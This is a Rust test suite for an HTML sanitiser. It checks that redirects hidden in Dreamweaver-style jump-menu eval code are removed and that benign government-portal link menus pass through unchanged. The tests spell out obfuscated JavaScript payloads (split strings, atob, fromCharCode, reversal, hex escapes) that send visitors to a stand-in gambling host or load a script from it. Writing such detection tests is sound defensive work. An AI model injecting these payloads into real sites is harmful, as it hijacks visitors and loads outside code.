//! Attack suite for redirects hidden in code built around a form value (issue 14, class
//! 3; threats B1, B3): Dreamweaver's jump menu, `eval(targ + ".location='" +
//! selObj.options[selObj.selectedIndex].value + "'")`, is on many old portals and must
//! work, so an `eval` of code made of constants, the function's plain parameters and
//! values read from the page's own markup is judged as the code it builds. An attacker who
//! writes such an `eval` puts the redirect in its constant parts: split (`'/'+'/bet…'`),
//! escaped, decoded at run time (`atob`, `fromCharCode`, a reversal), a foreign prefix
//! before the value, a bare `//` before it, the value in code position, or a foreign
//! constant bound to a name. Each is crossed with the definitions (`eval`, `window.eval`,
//! `setTimeout`, `new Function`), both quotings and an error page. The benign twins (the
//! jump menus of real portals with `gov.vn` options, `MM_jumpMenuGo`, `window.open` of an
//! option, `location.href = this.value`, jQuery's `$(this).val()`, `data-href` links) keep
//! their bytes with no event.

use crate::common;

use common::rewrite::{clean, site};

use super::js_eval_entry_points::assert_removed_on_every_page;

/// Evaluators of built code: `@B` is the code expression.
const EVALS: &[&str] = &[
    "eval(@B)",
    "window.eval(@B)",
    "setTimeout(@B,0)",
    "new Function(@B)()",
];

/// Code built around the jump menu's parameters: `@V` is the option's value, `@P` a
/// constant expression whose value is a statement (the payload).
const BUILDS: &[&str] = &[
    // The redirect in a constant part after the navigation (passes for the API idiom).
    "targ+@P",
    "targ+\".location='\"+@V+\"';\"+@P",
    "targ + '.location=\"' + @V + '\";' + @P",
    "@P+';'+targ+\".location='\"+@V+\"'\"",
];

/// Payloads: constants whose value is a statement that leaves the site.
const PAYLOADS: &[&str] = &[
    r#"";top.location='/'+'/bet.example/'""#,
    r#"";top.location='htt'+'ps://bet.example/'""#,
    r#"";location.replace(atob('Ly9iZXQuZXhhbXBsZS8='))""#,
    r#"";location.href=String.fromCharCode(47,47,98,101,116,46,101,120,97,109,112,108,101,47)""#,
    r#"";window['loc'+'ation']='//bet'+'.example/'""#,
    r#"";location='/elpmaxe.teb//'.split('').reverse().join('')""#,
    r#"";document.location='\\x2f\\x2fbet.example/'""#,
    r#"";var s=document.createElement('script');s.src='/'+'/bet.example/x.js';document.head.appendChild(s)""#,
];

/// Whole jump menus whose target itself leaves the site.
const TARGETS: &[&str] = &[
    "eval(targ+\".location='https://bet.example/?u=\"+selObj.options[selObj.selectedIndex].value+\"'\")",
    "eval(targ+\".location='//\"+selObj.options[selObj.selectedIndex].value+\"'\")",
    "eval(targ+\".location=\"+selObj.options[selObj.selectedIndex].value)",
    "var u='https://bet.example/';eval(targ+\".location='\"+u+selObj.value+\"'\")",
    "eval(targ+\".location='\"+'https:/'+'/bet.example/'+\"'\")",
    "eval(\"top.location='\"+atob(selObj.value)+\"'\")",
    "eval(targ+\".location='\"+location.hash.slice(1)+\"'\")",
];

/// The page around a script: a news page or an error page.
fn jump_menu(body: &str) -> String {
    format!(
        "function MM_jumpMenu(targ,selObj,restore){{{body};if(restore)selObj.selectedIndex=0;}}"
    )
}

fn attacks() -> Vec<String> {
    let mut all = Vec::new();
    for e in EVALS {
        for b in BUILDS {
            for p in PAYLOADS {
                let build = b
                    .replace("@V", "selObj.options[selObj.selectedIndex].value")
                    .replace("@P", p);
                all.push(jump_menu(&e.replace("@B", &build)));
            }
        }
    }
    all.extend(TARGETS.iter().map(|t| jump_menu(t)));
    all
}

#[test]
fn redirects_built_into_jump_menu_code_are_removed() {
    assert_removed_on_every_page(&attacks(), 20);
}

const OPTIONS: &str = "<option value=\"\">-- Liên kết website --</option>\
<option value=\"https://chinhphu.vn/\">Cổng TTĐT Chính phủ</option>\
<option value=\"https://www.mof.gov.vn/\">Bộ Tài chính</option>\
<option value=\"https://moet.edu.vn/\">Bộ GD&amp;ĐT</option>\
<option value=\"/lien-he\">Liên hệ</option>";

/// Real portals' link menus: (script, the select's attributes).
const MENUS: &[(&str, &str)] = &[
    (
        "function MM_jumpMenu(targ,selObj,restore){ //v3.0\n  eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\");\n  if (restore) selObj.selectedIndex=0;\n}",
        "name=\"menu1\" onchange=\"MM_jumpMenu('parent',this,0)\"",
    ),
    (
        "function MM_jumpMenu(targ,selObj,restore){\r\n\teval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\");\r\n\tif (restore) selObj.selectedIndex=0;\r\n}",
        "onChange=\"MM_jumpMenu('window',this,1)\"",
    ),
    (
        "function MM_jumpMenu(targ, selObj, restore) {\n  eval(targ + '.location=\"' + selObj.options[selObj.selectedIndex].value + '\"');\n  if (restore) selObj.selectedIndex = 0;\n}",
        "onchange=\"MM_jumpMenu('self', this, 0)\"",
    ),
    (
        "function MM_jumpMenuGo(objId,targ,restore){ //v9.0\n  var selObj = null;  with (document) {\n  if (getElementById) selObj = getElementById(objId);\n  if (selObj) eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\");\n  if (restore) selObj.selectedIndex=0; }\n}",
        "id=\"jumpMenu\" onchange=\"MM_jumpMenuGo('jumpMenu','top',0)\"",
    ),
    (
        "function MM_findObj(n, d) { var p,i,x;  if(!d) d=document; if(!(x=d[n])&&d.all) x=d.all[n]; for (i=0;!x&&i<d.forms.length;i++) x=d.forms[i][n]; if(!x && d.getElementById) x=d.getElementById(n); return x; }\nfunction MM_jumpMenu(targ,selObj,restore){ eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\"); if (restore) selObj.selectedIndex=0; }\nfunction MM_jumpMenuGo(selName,targ,restore){ //v3.0\n  var selObj = MM_findObj(selName); if (selObj) MM_jumpMenu(targ,selObj,restore);\n}",
        "name=\"lk\" onchange=\"MM_jumpMenuGo('lk','parent',0)\"",
    ),
    (
        "function goLink(s){ if (s.selectedIndex > 0) window.open(s.options[s.selectedIndex].value); }",
        "onchange=\"goLink(this)\"",
    ),
    ("", "onchange=\"location.href=this.value\""),
    (
        "",
        "onchange=\"if(this.value!='') window.open(this.value,'_blank')\"",
    ),
    (
        "",
        "onchange=\"window.open(this.options[this.selectedIndex].value,'_blank');this.selectedIndex=0\"",
    ),
    (
        "$(function(){ $('#lk').change(function(){ var u = $(this).val(); if (u) window.open(u); }); });",
        "id=\"lk\"",
    ),
    (
        "jQuery(document).ready(function($){ $('.lien-ket').on('change', function(){ window.location.href = $(this).val(); }); });",
        "class=\"lien-ket\"",
    ),
    (
        "function MM_jumpMenu(targ,selObj,restore){ setTimeout(targ+\".location='\"+selObj.value+\"'\", 10); }",
        "onchange=\"MM_jumpMenu('parent',this,0)\"",
    ),
];

#[test]
fn portal_jump_menus_keep_their_bytes() {
    let site = site("");
    for (script, attrs) in MENUS {
        let script = match script.is_empty() {
            true => String::new(),
            false => format!("<script>{script}</script>"),
        };
        let page = format!(
            "<p>Liên kết</p>{script}<form name=\"f\"><select {attrs}>{OPTIONS}</select></form>"
        );
        let (out, events) = clean(&site, &page);
        assert_eq!(out, page, "changed: {events:?}");
        assert!(events.is_empty(), "{page}: {events:?}");
    }
}

#[test]
fn data_href_links_keep_their_bytes() {
    let site = site("");
    for script in [
        "document.querySelectorAll('[data-href]').forEach(function(e){e.onclick=function(){location.href=this.dataset.href}})",
        "var rows=document.querySelectorAll('tr[data-href]');for(var i=0;i<rows.length;i++){rows[i].addEventListener('click',function(){window.location=this.getAttribute('data-href')})}",
        "$('tr[data-href]').click(function(){ window.location = $(this).data('href'); });",
        "$('a.popup').click(function(e){ e.preventDefault(); window.open($(this).attr('href'), 'p', 'width=600'); });",
    ] {
        let page = format!(
            "<table><tr data-href=\"/van-ban/1\"><td>Văn bản</td></tr></table>\
             <a class=\"popup\" href=\"https://chinhphu.vn/\">CP</a><script>{script}</script>"
        );
        let (out, events) = clean(&site, &page);
        assert_eq!(out, page, "changed: {events:?}");
        assert!(events.is_empty(), "{script}: {events:?}");
    }
}
